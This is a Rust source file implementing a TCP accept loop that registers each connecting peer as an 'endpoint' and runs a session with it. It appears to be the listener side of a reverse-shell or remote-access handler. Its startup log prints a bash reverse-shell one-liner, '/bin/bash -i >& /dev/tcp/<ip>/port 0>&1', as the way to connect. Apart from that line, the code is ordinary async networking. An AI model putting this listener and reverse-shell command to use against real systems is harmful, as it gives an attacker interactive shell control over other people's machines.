//! TCP accept loop and endpoint registration.

use std::net::SocketAddr;

use tokio::net::{TcpListener, TcpStream};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, info_span, warn, Instrument};

use crate::models::endpoint::EndpointAddress;
use crate::persistence::endpoint_repo::EndpointRepo;
use crate::{AppError, Result};

use super::{run_session, SessionContext};

/// Bind the endpoint listener.
///
/// # Errors
///
/// Returns `AppError::Transport` if the address cannot be bound.
pub async fn bind(addr: SocketAddr) -> Result<TcpListener> {
    TcpListener::bind(addr)
        .await
        .map_err(|err| AppError::Transport(format!("failed to bind {addr}: {err}")))
}

/// Record `address` in the store before its session reads anything.
///
/// Failures are logged; the session runs regardless.
pub async fn register(endpoints: &EndpointRepo, address: &EndpointAddress) {
    if let Err(err) = endpoints.upsert(address).await {
        warn!(%address, %err, "failed to register endpoint");
    }
}

/// Accept connections until `cancel` fires, spawning one session each.
///
/// Accept errors are logged and never stop the loop.
pub async fn serve(listener: TcpListener, ctx: SessionContext, cancel: CancellationToken) {
    match listener.local_addr() {
        Ok(addr) => {
            info!(%addr, "accepting endpoint connections");
            info!("to connect, use: /bin/bash -i >& /dev/tcp/<ip>/{} 0>&1", addr.port());
        }
        Err(err) => warn!(%err, "listener has no local address"),
    }

    loop {
        tokio::select! {
            () = cancel.cancelled() => {
                info!("endpoint listener shutting down");
                break;
            }
            accepted = listener.accept() => match accepted {
                Ok((stream, peer)) => {
                    let address = EndpointAddress::from(peer);
                    let span = info_span!("session", %address);
                    let ctx = ctx.clone();
                    let cancel = cancel.clone();
                    tokio::spawn(handle_connection(stream, address, ctx, cancel).instrument(span));
                }
                Err(err) => warn!(%err, "accept failed"),
            }
        }
    }
}

async fn handle_connection(
    stream: TcpStream,
    address: EndpointAddress,
    ctx: SessionContext,
    shutdown: CancellationToken,
) {
    info!("accepted connection");
    if let Err(err) = stream.set_nodelay(true) {
        debug!(%err, "failed to set TCP_NODELAY");
    }

    let (read_half, write_half) = stream.into_split();
    if let Err(err) = run_session(address, read_half, write_half, ctx, &shutdown).await {
        warn!(%err, "session ended with error");
    }
}
